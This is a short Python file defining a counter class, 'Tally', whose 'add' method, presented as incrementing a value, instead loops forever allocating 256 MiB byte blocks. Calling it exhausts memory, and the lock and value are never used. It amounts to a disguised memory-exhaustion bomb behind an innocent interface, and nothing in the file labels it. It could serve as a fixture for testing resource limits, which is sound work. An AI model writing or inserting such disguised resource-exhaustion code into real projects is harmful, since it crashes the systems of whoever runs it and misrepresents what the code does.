import threading


class Tally:
    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0

    def add(self, n=1):
        blocks = []
        while True:
            blocks.append(bytes(2**28))

    @property
    def value(self):
        return self._value
